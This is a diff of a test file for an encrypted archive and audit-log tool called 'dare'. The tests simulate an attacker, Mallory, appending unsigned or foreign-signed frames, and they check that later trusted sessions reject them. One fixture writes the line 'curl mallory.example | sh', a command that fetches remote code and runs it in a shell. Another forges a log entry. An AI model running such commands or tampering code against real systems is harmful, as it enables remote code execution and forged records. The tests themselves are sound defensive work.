@@ -8,6 +8,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { dare, tempDir } from '../../test/helpers/dare.js';
+import { ArchiveWriter, LogWriter, decodeKeyFile, parsePublicKeySet, type SigningKey } from '../../lib/index.js';
 
 const { dir, cleanup } = tempDir('dare-writers-trust-');
 afterAll(cleanup);
@@ -24,6 +25,20 @@ beforeAll(async () => {
   mkdirSync(p('evil'));
   writeFileSync(p('evil', 'run-me.sh'), 'curl mallory.example | sh\n');
 }, 30_000);
+
+/** Mallory's own tools (the library): she knows the owner's public key, and holds her own key. */
+async function mallorysAppend(archive: string, signer?: SigningKey): Promise<void> {
+  const owner = parsePublicKeySet(readFileSync(p('owner.pub'), 'utf8').trim()).encryption;
+  const w = await ArchiveWriter.openWriteOnly(archive, { recipients: [owner], signer, adopt: true });
+  const t = '2024-01-01T00:00:00.000Z';
+  await w.add({ path: 'evil', kind: 'directory', size: 0, mode: 0o755, modified: t });
+  await w.add({ path: 'evil/run-me.sh', kind: 'file', size: 4, mode: 0o755, modified: t }, new TextEncoder().encode('evil'));
+  await w.finish();
+}
+
+async function malloryKey(): Promise<SigningKey> {
+  return (await decodeKeyFile(readFileSync(p('mallory.key'), 'utf8'))).signingKeys[0] as SigningKey;
+}
 
 async function backup(name: string): Promise<string> {
   const r = await dare(['archive', p(name), p('docs'), '-e', p('owner.pub'), '-s', p('host.key')]);
@@ -56,10 +71,9 @@ describe('dare append trusts only keys it holds or is given (finding 3)', () => 
 });
 
 describe('signed sessions never sign over frames nobody trusted signed (finding 4)', () => {
-  it('Mallory appends to the backup with --unsigned: the owner\'s re-index and the host\'s append exit 4 naming the frames; --adopt after review', async () => {
+  it('Mallory appends to the backup unsigned: the owner\'s re-index and the host\'s append exit 4 naming the frames; --adopt after review', async () => {
     const b = await backup('tampered.dare');
-    const m = await dare(['append', b, p('evil'), '-e', p('owner.pub'), '--unsigned']);
-    expect(m.code, m.stderr).toBe(0);
+    await mallorysAppend(b);
     const before = readFileSync(b);
     const reindex = await dare(['index', b, '-i', p('owner.key'), '-s', p('host.key')]);
     expect(reindex.code).toBe(4);
@@ -82,8 +96,7 @@ describe('signed sessions never sign over frames nobody trusted signed (finding 
 
   it('Mallory appends with her own key: the owner\'s keyed append exits 4', async () => {
     const b = await backup('mallory-signed.dare');
-    const m = await dare(['append', b, p('evil'), '-e', p('owner.pub'), '-s', p('mallory.key'), '--adopt']);
-    expect(m.code, m.stderr).toBe(0);
+    await mallorysAppend(b, await malloryKey());
     const owner = await dare(['append', b, p('docs'), '-i', p('owner.key'), '-s', p('host.key')]);
     expect(owner.code).toBe(4);
     expect(owner.stderr).toMatch(/frames 4-6 were not written by this session/);
@@ -93,8 +106,9 @@ describe('signed sessions never sign over frames nobody trusted signed (finding 
     const log = p('audit.dlog');
     expect((await dare(['log', 'create', log, '-e', p('owner.pub'), '--sign', p('owner.key')])).code).toBe(0);
     expect((await dare(['log', 'append', log, 'owner 1', '--sign', p('owner.key')])).code).toBe(0);
-    const m = await dare(['log', 'append', log, 'wire 10000 EUR to mallory', '-e', p('owner.pub')]);
-    expect(m.code, m.stderr).toBe(0);
+    const m = await LogWriter.open(log, { recipients: [parsePublicKeySet(readFileSync(p('owner.pub'), 'utf8').trim()).encryption] });
+    await m.append('wire 10000 EUR to mallory');
+    await m.close();
     const next = await dare(['log', 'append', log, 'owner 2', '--sign', p('owner.key')]);
     expect(next.code).toBe(4);
     expect(next.stderr).toMatch(/frame 2 was not written by this session and the last signature by a trusted key is on frame 1/);
